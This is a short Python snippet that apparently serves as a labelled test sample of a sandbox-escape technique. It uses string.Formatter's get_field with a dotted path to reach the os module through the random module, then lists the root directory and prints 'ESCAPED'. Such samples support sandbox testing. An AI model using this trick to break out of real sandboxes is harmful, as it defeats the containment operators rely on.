# class: string.Formatter resolves dotted attribute paths from a format field
import string, random
os_ = string.Formatter().get_field("0._os", [random], {})[0]
print("ESCAPED", os_.listdir("/"))
